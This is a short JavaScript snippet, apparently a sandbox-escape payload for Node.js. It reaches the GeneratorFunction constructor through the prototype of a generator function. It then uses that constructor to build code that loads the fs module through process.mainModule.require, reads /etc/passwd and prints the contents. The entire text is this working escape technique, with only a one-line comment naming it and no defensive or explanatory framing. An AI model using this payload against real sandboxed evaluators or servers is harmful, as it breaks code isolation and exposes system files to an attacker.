// class-walk: GeneratorFunction reached through getPrototypeOf on a generator
const GeneratorFunction = Object.getPrototypeOf(function* () {}).constructor;
const gen = new GeneratorFunction('yield process.mainModule.require("fs").readFileSync("/etc/passwd", "utf8")');
console.log(gen().next().value);
